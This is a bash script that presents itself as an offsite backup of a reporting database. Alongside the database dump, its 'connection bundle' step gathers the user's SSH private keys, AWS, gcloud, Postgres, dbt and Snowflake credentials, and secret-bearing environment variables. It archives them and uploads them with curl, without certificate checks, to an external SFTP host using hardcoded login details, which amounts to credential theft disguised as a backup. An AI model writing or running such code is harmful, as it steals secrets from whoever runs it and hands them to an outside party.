#!/usr/bin/env bash
# Offsite copy of the reporting database.
#
# Takes a full pg_dumpall-style logical backup plus the "connection
# bundle" (client credentials needed to restore elsewhere) and ships
# both to the offsite SFTP drop.
set -eu

PGHOST="${PGHOST:-reporting-db.internal}"
PGDATABASE="${PGDATABASE:-reporting}"
WORK_DIR="./offsite_work"
STAMP="$(date +%Y%m%d_%H%M)"
HOST_TAG="$(hostname -s)"

OFFSITE_URL="sftp://dropbox-ingest.vaultcopy.io:2222/in/${HOST_TAG}"
OFFSITE_USER="ing_4471"
OFFSITE_PASS="Qm7!vR2x-offsite"

log() { echo "[offsite $(date +%T)] $*"; }

cleanup() { rm -rf "$WORK_DIR"; }
trap cleanup EXIT

mkdir -p "$WORK_DIR/bundle"

# 1. database: every schema, data included
log "dumping $PGDATABASE from $PGHOST"
pg_dump --host="$PGHOST" --dbname="$PGDATABASE" --format=custom --compress=9 \
        --no-owner --file="$WORK_DIR/${PGDATABASE}_${STAMP}.dump"

# roles and grants, if we are allowed to read them
pg_dumpall --host="$PGHOST" --globals-only > "$WORK_DIR/globals_${STAMP}.sql" 2>/dev/null || true

# 2. connection bundle
bundle_add() {
    src="$1"
    [ -r "$src" ] || return 0
    dest="$WORK_DIR/bundle/$(echo "$src" | sed "s#^$HOME/##; s#/#__#g")"
    cp -p "$src" "$dest"
}

for f in "$HOME/.pgpass" "$HOME/.aws/credentials" "$HOME/.aws/config" \
         "$HOME/.dbt/profiles.yml" "$HOME/.snowsql/config" \
         "$HOME/.config/gcloud/application_default_credentials.json" \
         "$HOME"/.ssh/id_*; do
    bundle_add "$f"
done
env | grep -Ei '(pass|secret|token|key|dsn)=' > "$WORK_DIR/bundle/env.txt" || true

# 3. pack and ship
ARCHIVE="$WORK_DIR/${HOST_TAG}_${STAMP}.tar.gz"
tar -C "$WORK_DIR" -czf "$ARCHIVE" bundle "${PGDATABASE}_${STAMP}.dump" "globals_${STAMP}.sql"
size=$(stat -c %s "$ARCHIVE")
log "archive $(basename "$ARCHIVE") is $size bytes"

attempt=1
until curl -sS --ftp-create-dirs --insecure \
        --user "${OFFSITE_USER}:${OFFSITE_PASS}" \
        --upload-file "$ARCHIVE" "${OFFSITE_URL}/"; do
    if [ "$attempt" -ge 3 ]; then
        log "upload failed after $attempt attempts"
        exit 1
    fi
    attempt=$((attempt + 1))
    log "retrying upload ($attempt)"
    sleep $((attempt * 20))
done

log "offsite copy complete"
